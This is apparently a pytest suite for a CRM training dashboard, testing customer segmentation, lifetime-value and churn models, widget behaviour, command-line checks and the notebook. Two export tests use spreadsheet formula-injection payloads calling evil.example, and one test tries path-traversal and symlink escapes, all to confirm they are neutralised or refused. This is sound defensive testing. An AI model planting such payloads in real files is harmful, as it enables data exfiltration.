"""Workshop: the analyses behind the dashboard (numbers), the widgets driven in-process, the
command's argument checks and the notebook. The real-browser run is test_workshop_browser.py."""
from __future__ import annotations

import base64
import io
import json
import re
import socket
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest
from sklearn.metrics import roc_auc_score

import crm_training
from crm_training.cli import main
from crm_training.workshop import cli as wcli
from crm_training.workshop.analysis import (WorkshopData, assignment_csv, csv_download_html,
                                            default_rfm_ranges, rfm_thresholds,
                                            segment_customers, tier_table, top_churn_risk,
                                            top_clv)

ROOT = Path(__file__).resolve().parents[1]
FINANCIAL = {"financial": 1.0, "behavioural": 0.0, "relationship": 0.0, "potential": 0.0}
RELATIONSHIP = {"financial": 0.0, "behavioural": 0.0, "relationship": 1.0, "potential": 0.0}


@pytest.fixture(scope="module")
def data():
    return crm_training.generate("retail", 800, seed=3)


@pytest.fixture(scope="module")
def work(data):
    return WorkshopData(data, seed=3)


@pytest.fixture
def ten():
    """Ten one-order customers: c0 bought first and least, c9 last and most."""
    tx = pd.DataFrame({"customer_id": [f"c{i}" for i in range(10)],
                       "timestamp": pd.Timestamp("2025-01-01") + pd.to_timedelta(
                           np.arange(10) * 10, unit="D"),
                       "amount": 100.0 * np.arange(1, 11)})
    return SimpleNamespace(transactions=tx)


def _decode(link_html: str) -> pd.DataFrame:
    b64 = re.search(r"base64,([A-Za-z0-9+/=]+)", link_html).group(1)
    return pd.read_csv(io.BytesIO(base64.b64decode(b64)), encoding="utf-8-sig")


# ---- analysis --------------------------------------------------------------------------------
def test_rfm_thresholds_cut_points_and_errors():
    t = rfm_thresholds(recency=(10, 70), frequency=(2, 8), monetary=(1, 1000))
    assert t["R"] == [10, 30, 50, 70] and t["F"] == [2, 4, 6, 8]
    assert t["M"] == pytest.approx([1, 10, 100, 1000])
    assert rfm_thresholds() == {}
    with pytest.raises(ValueError, match="R range"):
        rfm_thresholds(recency=(30, 30))
    with pytest.raises(ValueError, match="M range.*> 0"):
        rfm_thresholds(monetary=(0, 100))


def test_fixed_rfm_cut_points_score_recency(ten):
    # recency of c_i is 91 - 10 i days (as of the day after the last order); R cuts 10/30/50/70:
    # a recency at or below k of the cuts scores 1 + k
    s = segment_customers(WorkshopData(ten), rfm_thresholds(recency=(10, 70)), k=2)
    r = s.assignment["R"].astype(int).tolist()
    assert s.assignment["recency_days"].tolist() == [91, 81, 71, 61, 51, 41, 31, 21, 11, 1]
    assert r == [1, 1, 1, 2, 2, 3, 3, 4, 4, 5]


def test_value_tiers_follow_the_weights(ten):
    work = WorkshopData(ten)
    # ranked by the weighted score: all weight on money puts the two top spenders (20%) high,
    # the next three (30%) medium
    money = segment_customers(work, weights=FINANCIAL, k=2, tier_basis="score").assignment
    assert sorted(money.index[money["value_tier"] == "high"]) == ["c8", "c9"]
    assert sorted(money.index[money["value_tier"] == "medium"]) == ["c5", "c6", "c7"]
    tenure = segment_customers(work, weights=RELATIONSHIP, k=2, tier_basis="score").assignment
    # all weight on the relationship (tenure here): the oldest customers are high
    assert sorted(tenure.index[tenure["value_tier"] == "high"]) == ["c0", "c1"]
    # ranked by value (the default, the report's), the weights change nothing
    by_value = segment_customers(work, weights=RELATIONSHIP, k=2).assignment["value_tier"]
    assert sorted(by_value.index[by_value == "high"]) == ["c8", "c9"]
    shares = segment_customers(work, k=2, tier_shares=(0.1, 0.4)).assignment["value_tier"]
    assert shares.value_counts().to_dict() == {"potential": 5, "medium": 4, "high": 1}


def test_models_that_cannot_fit_are_reported_not_raised(ten):
    s = segment_customers(WorkshopData(ten), k=2)
    assert "repeat buyers" in s.problems["clv"]
    assert "churn" in s.problems
    assert s.assignment["clv"].isna().all() and s.assignment["churn_probability"].isna().all()
    assert len(s.assignment) == 10


def test_tiers_are_the_reports_tiers(work, data):
    from crm_training.report.findings import compute_findings

    f = compute_findings(data, seed=3)
    s = segment_customers(work, k=4)
    # every customer of the base in the same tier as in the case-study report
    report = f.segments["tiers"].astype(str)
    mine = work.tiers()["value_tier"].astype(str)
    pd.testing.assert_series_equal(mine.sort_index(), report.sort_index(), check_names=False)
    assert s.assignment["value_tier"].equals(report.reindex(s.assignment.index))
    # the same tier table: 20% / 30% / 50% of the whole base, the same value per year
    cols = ["customers", "customer_share", "value_share", "value_per_customer_year"]
    pd.testing.assert_frame_equal(s.tiers[cols], f.segments["tier_table"][cols],
                                  check_names=False, check_dtype=False)
    n = len(data.customers)
    assert s.tiers["customers"].tolist() == [int(np.ceil(0.2 * n)), int(np.ceil(0.5 * n))
                                             - int(np.ceil(0.2 * n)), n - int(np.ceil(0.5 * n))]
    assert s.tiers["value_share"].is_monotonic_decreasing
    assert s.tiers["mean_clv"].is_monotonic_decreasing
    # the strategy scaled to what a high-tier retail customer is worth (no personal shopper
    # for a few hundred a year), and in Chinese too
    assert not s.tiers.loc["high", "strategy"].startswith("A dedicated")
    assert s.tiers["strategy_zh"].str.contains("[\u4e00-\u9fff]").all()
    assert tier_table(s.assignment, work.tiers(), work).equals(s.tiers)


def test_another_horizon_resums_the_fitted_forecast(work, data):
    from crm_training.clv import clv_forecast

    margin = work.features["profit"].sum() / work.features["monetary"].sum()
    fresh = clv_forecast(data.transactions, months=12, margin=float(margin)).table
    short = work.clv(12)
    assert np.allclose(short["clv"], fresh["clv"].reindex(short.index), rtol=1e-9)
    assert (short["clv"] <= work.clv()["clv"] + 1e-9).all()  # 12 months hold less than 36
    assert short["p_alive"].equals(work.clv()["p_alive"])   # one churn figure, any horizon
    with pytest.raises(ValueError, match="at least 1 month"):
        work.clv(0)


def test_retention_actions_follow_tier_and_risk(work):
    from crm_training.workshop.analysis import RETENTION_ACTIONS, action_text, retention_action

    a = segment_customers(work).assignment
    risk = top_churn_risk(a, 200)
    codes = retention_action(risk["value_tier"], risk["churn_probability"])
    assert risk["action"].tolist() == codes.tolist()
    assert risk["action"].nunique() >= 3  # not one action for everybody
    high_risky = (risk["value_tier"] == "high") & risk["churn_probability"].between(
        0.6, 0.95, inclusive="left")
    assert (risk.loc[high_risky, "action"] == "call").all()
    assert (risk.loc[risk["churn_probability"] < 0.3, "action"] == "keep").all()
    assert (risk.loc[(risk["value_tier"] == "potential") & risk["churn_probability"].between(
        0.3, 0.95, inclusive="left"), "action"] == "automate").all()
    assert (risk.loc[risk["churn_probability"] >= 0.95, "action"] == "lost").all()
    assert "relationship manager" in action_text("call", "bank", "en")
    assert "客户经理" in action_text("call", "bank", "zh")
    zh = top_churn_risk(a, 20, industry="bank", language="zh")
    assert zh["action_text"].str.contains("[\u4e00-\u9fff]").all()
    assert set(RETENTION_ACTIONS) >= set(zh["action"])
    acting = top_churn_risk(a, 50, at_risk_only=True)
    assert (acting["churn_probability"] >= 0.3).all() and "keep" not in set(acting["action"])
    assert len(acting) == min(50, int((a["churn_probability"] >= 0.3).sum()))


def test_action_export_files(work):
    import openpyxl

    from crm_training.workshop.analysis import action_export

    risk = top_churn_risk(segment_customers(work).assignment, 10, language="zh").copy()
    risk.index = pd.Index(['=HYPERLINK("http://evil.example","x")'] + list(risk.index[1:]),
                          name="customer_id")
    out = action_export(risk, "zh", "CNY")
    ws = openpyxl.load_workbook(io.BytesIO(out["xlsx"])).active
    rows = list(ws.values)
    assert rows[0][:4] == ("客户编号", "流失概率", "生命周期价值（CNY）", "风险价值（CNY）")
    assert len(rows) == 11 and rows[1][0].startswith("'=")  # text, never a formula
    assert ws.cell(row=2, column=1).data_type == "s"
    csv = pd.read_csv(io.BytesIO(out["csv"]), encoding="utf-8-sig")
    assert len(csv) == 10 and csv.iloc[0, 0].startswith("'=")
    assert csv["价值层级"].isin(["高价值", "中价值", "潜力价值"]).all()


def test_clusters_follow_k_and_are_memoised(work):
    for k in (3, 5):
        s = segment_customers(work, k=k)
        assert s.assignment["cluster"].nunique() == k and len(s.clusters) == k
        assert s.clusters["customers"].sum() == len(s.assignment)
    assert work.clusters(5) is work.clusters(5)


def test_clv_and_churn_recover_the_synthetic_truth(work, data):
    a = segment_customers(work).assignment
    truth = data.truth["customers"].set_index("customer_id")
    rho = a["clv"].corr(truth["clv_3y"].reindex(a.index), method="spearman")
    assert rho > 0.6
    # the risk list ranks customers whose latent dropout already happened first
    end = pd.Timestamp(data.meta["end"]) + pd.Timedelta(days=1)
    dropout = truth["dropout_date"].reindex(a.index)
    gone = dropout.notna() & (dropout < end)
    known = a["churn_probability"].notna()  # every order refunded: no P(alive)
    assert known.mean() > 0.95
    assert roc_auc_score(gone[known], a.loc[known, "churn_probability"]) > 0.8
    top = top_churn_risk(a, 40, by="churn_probability")
    assert gone.reindex(top.index).mean() > 0.9


def test_top_lists(work):
    a = segment_customers(work).assignment
    risk = top_churn_risk(a, 15, by="churn_probability")
    assert len(risk) == 15 and risk["churn_probability"].is_monotonic_decreasing
    assert risk["churn_probability"].iloc[0] == a["churn_probability"].max()
    assert risk["value_at_risk"].round(2).equals((risk["churn_probability"] * risk["clv"]).round(2))
    assert risk["action"].str.len().gt(0).all()
    stake = top_churn_risk(a, 15)  # default: the value a save would keep
    assert stake["value_at_risk"].is_monotonic_decreasing
    assert stake["value_at_risk"].iloc[0] == (a["churn_probability"] * a["clv"]).round(2).max()
    # the value list holds customers worth saving, the probability list mostly lost ones
    assert stake["clv"].mean() > 5 * risk["clv"].mean()
    best = top_clv(a, 10)
    assert best["clv"].is_monotonic_decreasing and best["clv"].iloc[0] == a["clv"].max()


def test_csv_link_is_the_assignment_one_row_per_customer(work):
    a = segment_customers(work, weights=FINANCIAL, k=3).assignment
    link = csv_download_html(a)
    assert link.startswith('<a download="segments.csv"')
    csv = _decode(link)
    assert len(csv) == len(work.features) and csv["customer_id"].is_unique
    assert csv.set_index("customer_id")["value_tier"].equals(a["value_tier"])
    assert csv["cluster"].nunique() == 3
    assert assignment_csv(a)[:3] == b"\xef\xbb\xbf"  # BOM: Excel reads UTF-8


def test_csv_neutralises_formula_cells(work):
    # a client's own ids and labels reach the CSV: one that starts like a formula must reach
    # Excel as text (a leading apostrophe, the OWASP rule), numbers stay numbers
    a = segment_customers(work, k=3).assignment.head(4).copy()
    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1-800", "@SUM(A1)", "C-ok"]
    a.index = pd.Index(evil, name="customer_id")
    a["cluster_name"] = ["-2+3", "ok", "=1+1", "ok"]
    a["clv"] = [-5.0, 1.0, 2.0, 3.0]
    csv = _decode(csv_download_html(a))
    assert csv["customer_id"].tolist() == ["'" + evil[0], "'+1-800", "'@SUM(A1)", "C-ok"]
    assert csv["cluster_name"].tolist() == ["'-2+3", "ok", "'=1+1", "ok"]
    assert csv["clv"].tolist() == [-5.0, 1.0, 2.0, 3.0]
    import csv as csv_mod

    cells = [c for row in csv_mod.reader(io.StringIO(assignment_csv(a).decode("utf-8-sig")))
             for c in row]
    risky = [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    assert risky == ["-5.0"]  # the one negative number, a number in Excel too


def test_default_rfm_ranges_are_inside_the_bounds(work):
    for key, (lo, hi, mn, mx) in default_rfm_ranges(work.features).items():
        assert mn <= lo < hi <= mx, key


def test_workshop_data_refuses_data_without_transactions():
    with pytest.raises(ValueError, match="no transactions"):
        WorkshopData(SimpleNamespace(transactions=pd.DataFrame()))


# ---- widgets in-process ----------------------------------------------------------------------
@pytest.fixture(scope="module")
def dash(data):
    from crm_training.workshop import Dashboard

    return Dashboard(data=data, seed=3)


def _rows(html_text: str) -> int:
    return html_text.split("<tbody>")[1].count("<tr>")  # body rows of the rendered table


def _open(dash, tab):
    from crm_training.workshop.dashboard import TABS

    dash.tabs.selected_index = TABS.index(tab)


RAW_NAMES = re.compile(r"customer_share|mean_churn_probability|label_zh|value_tier|"
                       r"churn_probability|rfm_segment|recency_days|_zh\b")
CJK = re.compile(r"[\u4e00-\u9fff]")


def test_every_tab_has_a_chart_and_human_tables_in_both_languages(dash):
    from crm_training.workshop.dashboard import TABS

    try:
        for lang in ("en", "zh"):
            dash.language.value = lang
            dash.draw_all()
            titles = [dash.tabs.get_title(i) for i in range(len(TABS))]
            assert all(bool(CJK.search(t)) == (lang == "zh") for t in titles), titles
            for name, image in dash.charts.items():
                assert image.value[:8] == b"\x89PNG\r\n\x1a\n", (lang, name)
            for name, table in dash.tables.items():
                headers = re.findall(r"<th[^>]*>(.*?)</th>", table.value)
                assert headers, (lang, name)
                assert not RAW_NAMES.search(" ".join(headers)), (lang, name, headers)
                if lang == "zh":
                    assert all(CJK.search(h) or h in ("RFM", "CLV") for h in headers), headers
            assert CJK.search(dash.header.value) if lang == "zh" else \
                "customer workshop" in dash.header.value
            notes = " ".join(n.value for n in dash.notes.values())
            assert ("流失概率" in notes) if lang == "zh" else ("1 - P(alive)" in notes)
        tiers = dash.tables["tiers"].value
        assert "高价值" in tiers and "潜力价值" in tiers and "%" in tiers
    finally:
        dash.language.value = "en"


def test_a_control_redraws_only_what_depends_on_it(dash):
    _open(dash, "tiers")
    dash.draw_all()
    tiers, clusters = dash.tables["tiers"].value, dash.tables["cluster"].value
    dash.clusters.value = 6  # the segments tab is hidden: nothing is drawn now
    assert dash.tables["cluster"].value == clusters and "cluster" in dash._dirty
    assert dash.tables["tiers"].value == tiers  # the tiers do not depend on the clusters
    _open(dash, "segments")
    assert _rows(dash.tables["cluster"].value) == 6 and "cluster" not in dash._dirty
    _open(dash, "tiers")
    dash.high_share.value = 10
    assert dash.tables["tiers"].value != tiers
    expected = segment_customers(dash.work, k=6, tier_shares=(0.1, 0.3)).tiers
    assert expected.loc["high", "customer_share"] == pytest.approx(0.1, abs=0.002)
    assert dash.result.tiers.equals(expected)
    assert {"clv", "actions"} <= dash._dirty and "rfm" not in dash._dirty
    dash.high_share.value = 20
    dash.weights["financial"].value = 0.9  # ranked by value: the weights move no tier
    assert dash.tables["tiers"].value == tiers
    dash.weights["financial"].value = 0.4
    dash.clusters.value = 4


def test_action_list_length_ranking_and_downloads(dash):
    import openpyxl

    _open(dash, "actions")
    result = dash.result
    dash.top_n.value = 5
    assert _rows(dash.tables["actions"].value) == 5
    assert dash.result is result  # the list only: no re-segmenting
    by_value = dash.tables["actions"].value
    dash.churn_rank.value = "churn_probability"
    assert dash.tables["actions"].value != by_value
    links = re.findall(r'download="([^"]+)" href="data:[^;]+(?:;charset=utf-8)?;base64,'
                       r'([A-Za-z0-9+/=]+)"', dash.download.value)
    files = {name: base64.b64decode(b64) for name, b64 in links}
    assert set(files) == {"actions.xlsx", "actions.csv"}
    sheet = list(openpyxl.load_workbook(io.BytesIO(files["actions.xlsx"])).active.values)
    csv = pd.read_csv(io.BytesIO(files["actions.csv"]), encoding="utf-8-sig")
    assert len(sheet) == 6 and len(csv) == 5 and sheet[0][0] == "Customer"
    top = top_churn_risk(dash.result.assignment, 5, "churn_probability", at_risk_only=True)
    assert csv["Customer"].tolist() == top.index.tolist()
    assert dash.all_link.value == ""  # every customer's file: only when asked for
    dash.links_button.click()
    assert len(_decode(dash.all_link.value)) == len(dash.work.features)
    dash.churn_rank.value, dash.top_n.value = "value_at_risk", 20


def test_the_language_switch_keeps_every_choice(dash):
    _open(dash, "tiers")
    choices = {"tier_basis": "score", "rfm_bins": "fixed", "churn_rank": "churn_probability"}
    before = {k: getattr(dash, k).value for k in choices}
    try:
        for k, v in choices.items():
            getattr(dash, k).value = v
        tiers = dash.result.tiers.copy()
        dash.language.value = "zh"
        assert {k: getattr(dash, k).value for k in choices} == choices
        pd.testing.assert_frame_equal(dash.result.tiers, tiers)  # the same numbers, in Chinese
        assert "高价值" in dash.tables["tiers"].value
    finally:
        dash.language.value = "en"
        for k, v in before.items():
            getattr(dash, k).value = v


def test_tiers_by_score_still_show_money(work):
    import crm_training.segmentation as seg

    s = segment_customers(work, weights=FINANCIAL, tier_basis="score")
    score_tiers = s.assignment["value_tier"]
    money = work.values.reindex(score_tiers.index)
    expected = seg.tier_summary(money, score_tiers, work.years)
    for col in ("customers", "value_share", "value_per_customer_year"):
        assert s.tiers[col].to_numpy() == pytest.approx(expected[col].to_numpy()), col
    # the money of the high tier is a value per customer a year, not score points (0-100)
    assert s.tiers.loc["high", "value_per_customer_year"] > 100


def test_margin_scales_value_not_spend(monkeypatch):
    from crm_training.workshop import Dashboard

    data = crm_training.generate("retail", 600, seed=3)
    revenue_only = crm_training.CRMData(
        customers=data.customers, transactions=data.transactions.drop(columns="cost"),
        meta={"currency": "USD"})
    dash = Dashboard(data=revenue_only, seed=0, warm_up=False)
    _open(dash, "actions")
    before = dash.action_list()
    dash.margin_slider.value = 40
    after = dash.action_list()
    assert after["clv"].to_numpy() == pytest.approx(0.4 * before["clv"].to_numpy())
    assert after["monetary"].equals(before["monetary"])  # spend to date stays spend
    _open(dash, "clv")
    assert "expected profit over 36 months" in dash.notes["clv"].value
    dash.margin_slider.value = 0
    assert "expected revenue over 36 months" in dash.notes["clv"].value


def test_tier_share_sliders_and_notes_say_what_is_applied(dash):
    _open(dash, "tiers")
    try:
        dash.high_share.value = 50
        assert dash.medium_share.max == 50  # no medium share beyond what the high tier leaves
        dash.high_share.value = 20
        assert dash.medium_share.max == 80
        assert "the tiers of the case-study report" in dash.notes["tiers"].value
        dash.tier_basis.value = "score"
        assert "ranked by the score instead of value" in dash.notes["tiers"].value
    finally:
        dash.tier_basis.value, dash.high_share.value = "value", 20


def test_the_probability_list_says_so_and_breaks_ties_by_value(dash):
    _open(dash, "actions")
    try:
        dash.churn_rank.value = "churn_probability"
        assert "most likely to have stopped buying" in dash.notes["actions"].value
        t = dash.action_list()
        pairs = list(zip(-t["churn_probability"], -t["value_at_risk"]))
        assert pairs == sorted(pairs)  # by probability, equal ones by value at risk
        dash.language.value = "zh"
        assert dict(dash.industry.options)["银行"] == "bank"  # the industries in Chinese too
    finally:
        dash.language.value, dash.churn_rank.value = "en", "value_at_risk"


def test_rfm_controls(dash):
    _open(dash, "segments")
    rfm_before = dash.tables["segments"].value
    assert dash.r_range.disabled
    dash.rfm_bins.value = "fixed"
    assert not dash.r_range.disabled and dash.tables["segments"].value != rfm_before
    dash.r_range.value = (5, 60)
    recent = (dash.work.features["recency_days"] <= 5).sum()  # at or below the first cut point
    assert dash.result.assignment["R"].eq(5).sum() == recent > 0
    dash.rfm_bins.value = "quantiles"
    assert dash.tables["segments"].value == rfm_before


def test_dashboard_reports_bad_controls_and_keeps_the_tables(dash):
    _open(dash, "tiers")
    dash.tier_basis.value = "score"
    before = {name: w.value for name, w in dash.weights.items()}
    *others, last = dash.weights
    try:
        for name in others:
            dash.weights[name].value = 0.0
        tier = dash.tables["tiers"].value  # one family left: still a valid weighting
        dash.weights[last].value = 0.0
        assert "crm-error" in dash.status.value and "weight" in dash.status.value
        assert dash.tables["tiers"].value == tier
        dash.weights["financial"].value = 0.4
        assert "customers with purchases" in dash.status.value
    finally:  # the module's dashboard goes back to how the other tests expect it
        for name, value in before.items():
            dash.weights[name].value = value
        dash.tier_basis.value = "value"


def test_dashboard_widgets_carry_their_css_classes(dash):
    found = set()

    def walk(w):
        found.update(getattr(w, "_dom_classes", ()))
        for child in getattr(w, "children", ()):
            walk(child)
    walk(dash.widget)
    assert set(dash.CSS_CLASSES) <= found


def test_dashboard_client_folder_and_scenario(tmp_path):
    from crm_training.workshop import Dashboard

    client = crm_training.generate("bank", 300, seed=5)
    client.save(tmp_path / "client", format="csv")
    d = Dashboard(data_dir=tmp_path / "client", seed=5)
    assert d.source.value == "client"
    assert "usable" in d.notes["data"].value and "client folder client" in d.status.value
    assert len(d.result.assignment) == len(crm_training.segmentation.customer_features(client))

    d.client_path.value = str(tmp_path / "missing")
    d.load_button.click()
    assert "no such folder" in d.status.value
    assert len(d.result.assignment) == len(crm_training.segmentation.customer_features(client))

    d.industry.value, d.n_customers.value = "coffee_chain", 300
    d.generate_button.click()
    assert "Coffee chain scenario (seed 5): 300 customers" in d.status.value
    assert d.work.data.meta["industry"] == "coffee_chain"


@pytest.fixture
def clients(tmp_path):
    """A root of client folders (acme: a usable export), and a secret folder beside it."""
    root = tmp_path / "clients"
    crm_training.generate("bank", 300, seed=5).save(root / "acme", format="csv")
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "transactions.csv").write_text("customer_id,timestamp,amount\nX1,2025-01-01,1\n")
    return root, secret


def test_dashboard_opens_only_folders_under_its_root(clients, tmp_path):
    from crm_training.workshop import Dashboard

    root, secret = clients
    d = Dashboard(data_dir=root / "acme", root=root, seed=5)
    assert "usable" in d.notes["data"].value and "client folder acme" in d.status.value
    loaded, report = d.result, d.validation.value
    refused = [str(secret), str(root / ".." / "secret"), "../secret", "/", str(tmp_path)]
    (root / "link").symlink_to(secret, target_is_directory=True)  # a link out of the root
    refused.append(str(root / "link"))
    for path in refused:
        d.client_path.value = path
        d.load_button.click()
        assert "outside the workshop data folder" in d.status.value, path
        assert d.result is loaded and d.validation.value == report  # nothing was read
    d.client_path.value = "acme"  # relative: under the root
    d.load_button.click()
    assert "client folder acme" in d.status.value and d.result is not loaded


def test_dashboard_refuses_a_folder_with_a_file_linking_out(clients):
    from crm_training.workshop import Dashboard

    root, secret = clients
    (root / "acme" / "extra.csv").symlink_to(secret / "transactions.csv")
    d = Dashboard(data_dir=root / "acme", root=root, seed=5)
    assert "extra.csv" in d.status.value and "link to a file outside" in d.status.value
    assert d.result is None  # the first load was refused: the secret row was never read


def test_dashboard_root_from_the_environment(clients, monkeypatch):
    from crm_training.workshop import Dashboard
    from crm_training.workshop.paths import ROOT_ENV

    root, secret = clients
    monkeypatch.setenv(ROOT_ENV, "")  # the command without --data or --root: no client folder
    d = Dashboard(n_customers=200)
    d.client_path.value = str(root / "acme")
    d.load_button.click()
    assert "opens no client folder" in d.status.value and d._label[0] == "scenario"
    monkeypatch.setenv(ROOT_ENV, str(root))
    d = Dashboard(n_customers=200)
    d.client_path.value = str(secret)
    d.load_button.click()
    assert "outside the workshop data folder" in d.status.value
    monkeypatch.delenv(ROOT_ENV)  # JupyterLab, no variable: any folder, as before
    d = Dashboard(n_customers=200)
    d.client_path.value = str(secret)
    d.load_button.click()
    assert "workshop data folder" not in d.status.value
    assert "transactions.csv" in d.validation.value  # read and checked


# ---- command line ----------------------------------------------------------------------------
@pytest.fixture
def no_voila(monkeypatch):
    """Argument errors must stop the command before Voila starts."""
    def refuse(*args, **kwargs):
        raise AssertionError(f"Voila was started: {args}")
    monkeypatch.setattr(wcli.subprocess, "Popen", refuse)


def test_workshop_missing_data_folder_is_one_line_exit_2(tmp_path, capsys, no_voila):
    assert main(["workshop", "--no-browser", "--data", str(tmp_path / "nope")]) == 2
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and "no such folder" in err and "Traceback" not in err


def test_workshop_data_folder_without_exports_exit_2(tmp_path, capsys, no_voila):
    (tmp_path / "notes.md").write_text("not an export")
    assert main(["workshop", "--no-browser", "--data", str(tmp_path)]) == 2
    assert "holds no client files" in capsys.readouterr().err


def test_workshop_bad_and_busy_ports_exit_2(capsys, no_voila):
    assert main(["workshop", "--no-browser", "--port", "70000"]) == 2
    assert "--port" in capsys.readouterr().err
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen()
        busy = s.getsockname()[1]
        assert main(["workshop", "--no-browser", "--port", str(busy)]) == 2
    assert "already in use" in capsys.readouterr().err


def test_workshop_arguments_reach_voila(tmp_path):
    (tmp_path / "orders.csv").write_text("customer_id,timestamp,amount\nC1,2025-01-01,10\n")
    args = SimpleNamespace(data=str(tmp_path), port=0, no_browser=True)
    port, env = wcli.check_arguments(args)
    assert env[wcli.DATA_ENV] == str(tmp_path.resolve()) and 0 < port < 65536
    assert env[wcli.ROOT_ENV] == str(tmp_path.resolve())  # default root: the --data folder
    cmd = wcli.voila_command(port, tmp_path / "workshop.ipynb")
    assert cmd[:3] == [sys.executable, str(wcli.SERVER), str(tmp_path / "workshop.ipynb")]
    assert f"--port={port}" in cmd and "--Voila.ip=127.0.0.1" in cmd and "--no-browser" in cmd
    assert not any("token" in part.lower() for part in cmd)  # the token goes in the environment


def test_workshop_root_argument(tmp_path, monkeypatch, capsys, no_voila):
    client = tmp_path / "clients" / "acme"
    client.mkdir(parents=True)
    (client / "orders.csv").write_text("customer_id,timestamp,amount\nC1,2025-01-01,10\n")
    monkeypatch.setenv(wcli.TOKEN_ENV, "inherited")  # never passed on from the shell
    _, env = wcli.check_arguments(SimpleNamespace(data=str(client), root=str(tmp_path / "clients"),
                                                  port=0, no_browser=True))
    assert env[wcli.ROOT_ENV] == str((tmp_path / "clients").resolve()) and wcli.TOKEN_ENV not in env
    _, env = wcli.check_arguments(SimpleNamespace(data=None, root=None, port=0, no_browser=True))
    assert env[wcli.ROOT_ENV] == "" and wcli.DATA_ENV not in env  # no client folder at all
    other = tmp_path / "other"
    other.mkdir()
    assert main(["workshop", "--no-browser", "--data", str(client), "--root", str(other)]) == 2
    err = capsys.readouterr().err
    assert "outside --root" in err and err.count("\n") == 1
    assert main(["workshop", "--no-browser", "--root", str(tmp_path / "nope")]) == 2
    assert "--root: no such folder" in capsys.readouterr().err


def test_command_line_start_does_not_load_widgets():
    code = ("import sys, crm_training.cli as c; c.build_parser(); "
            "print(sorted(m for m in ('ipywidgets', 'voila', 'sklearn') if m in sys.modules))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


# ---- the notebook ----------------------------------------------------------------------------
def test_notebook_copies_are_identical_and_clean():
    source = ROOT / "notebooks" / "workshop.ipynb"
    assert source.read_bytes() == wcli.NOTEBOOK.read_bytes(), (
        "the workshop command serves crm_training/workshop/workshop_notebook.json: after editing "
        "the notebook, cp notebooks/workshop.ipynb crm_training/workshop/workshop_notebook.json")
    nb = json.loads(source.read_text(encoding="utf-8"))
    code = [c for c in nb["cells"] if c["cell_type"] == "code"]
    assert "parameters" in code[0]["metadata"].get("tags", [])
    names = re.findall(r"^(\w+)\s*=", "".join(code[0]["source"]), flags=re.MULTILINE)
    assert names == ["industry", "n_customers", "seed", "locale", "data_dir", "margin", "currency",
                     "language", "company"]
    assert not [c for c in nb["cells"] if c["cell_type"] == "markdown"]  # Voila shows no notes
    assert all(c["outputs"] == [] and c["execution_count"] is None for c in code)


def test_margin_and_currency_reach_the_workshop_as_in_the_report(monkeypatch):
    from crm_training.workshop import Dashboard

    data = crm_training.generate("retail", 600, seed=3)
    revenue_only = crm_training.CRMData(
        customers=data.customers, transactions=data.transactions.drop(columns="cost"),
        meta={"currency": "CNY"})
    plain = WorkshopData(revenue_only)
    assert plain.value_basis == "revenue" and plain.currency == "CNY"
    priced = WorkshopData(revenue_only, margin=0.3, currency="$")
    assert priced.value_basis == "margin" and priced.currency == "USD"
    # the CLV of profit at 30% is 30% of the CLV of revenue, customer by customer
    ratio = (priced.clv()["clv"] / plain.clv()["clv"]).dropna()
    assert np.allclose(ratio, 0.3, rtol=1e-6)
    assert WorkshopData(data, margin=0.9).value_basis == "cost"  # the data's own costs win
    monkeypatch.setenv(wcli.MONEY_ENV["margin"], "0.25")
    monkeypatch.setenv(wcli.MONEY_ENV["currency"], "EUR")
    dash = Dashboard(data=revenue_only, seed=0)
    assert dash.work.margin == 0.25 and dash.work.currency == "EUR"
    assert "Amounts in EUR; value is profit at a 25% margin." in dash.header.value
    dash.margin_slider.value = 50  # profit at 50%: twice the CLV of 25%
    _open(dash, "clv")
    assert dash.money_factor() == pytest.approx(2.0)
    assert "value is profit at a 50% margin" in dash.header.value


def test_workshop_money_arguments_are_checked(tmp_path, capsys, no_voila):
    assert main(["workshop", "--no-browser", "--margin", "30"]) == 2
    assert "--margin: margin must be a share" in capsys.readouterr().err
    assert main(["workshop", "--no-browser", "--currency", "dollars!"]) == 2
    assert "--currency: currency must be" in capsys.readouterr().err
    _, env = wcli.check_arguments(SimpleNamespace(data=None, root=None, port=0, no_browser=True,
                                                  margin=0.3, currency="¥"))
    assert env[wcli.MONEY_ENV["margin"]] == "0.3" and env[wcli.MONEY_ENV["currency"]] == "¥"


def test_customers_worth_less_than_nothing_are_flagged_on_the_first_tab():
    from crm_training.workshop import Dashboard

    d = crm_training.generate("retail", 300, seed=2)
    tx = d.transactions
    big_return = tx.iloc[[0]].assign(amount=-99_999.0, transaction_id="X1", is_return=True)
    data = crm_training.CRMData(customers=d.customers, meta=d.meta,
                                transactions=pd.concat([tx, big_return], ignore_index=True))
    board = Dashboard(data=data, warm_up=False)
    negative = int((board.work.values < 0).sum())
    assert negative >= 1 and board.work.values[tx["customer_id"].iloc[0]] < 0
    assert f"{negative:,} customers have a negative net profit" in board.notes["data"].value


def test_a_model_that_sees_no_dropout_says_so():
    from crm_training.workshop import Dashboard

    rng = np.random.default_rng(0)
    start, rows = pd.Timestamp("2024-01-01"), []
    for c in range(300):  # Poisson buyers with their own rates who never stop buying
        rate, t = rng.gamma(2.0, 1 / 40), rng.uniform(0, 100)
        while t < 700:
            rows.append((f"C{c}", start + pd.Timedelta(days=float(t)), rng.uniform(10, 50)))
            t += rng.exponential(1 / rate)
    tx = pd.DataFrame(rows, columns=["customer_id", "timestamp", "amount"])
    tx.insert(0, "transaction_id", [f"T{i}" for i in range(len(tx))])
    customers = pd.DataFrame({"customer_id": tx["customer_id"].unique()})
    board = Dashboard(data=crm_training.CRMData(customers=customers, transactions=tx,
                                                meta={"currency": "USD"}), warm_up=False)
    board.draw_all()
    churn = board.result.assignment["churn_probability"]
    assert (churn < 0.01).mean() >= 0.95
    assert "almost no dropout" in board.notes["clv"].value
    assert "almost no dropout" in board.notes["actions"].value
    assert "The 0 customers at risk" in board.notes["actions"].value
    assert board.charts["actions"].layout.display == "none"  # no empty chart
    ordinary = Dashboard(data=crm_training.generate("retail", 800, seed=3), warm_up=False)
    ordinary.draw_all()  # the generator's customers do drop out: no such warning
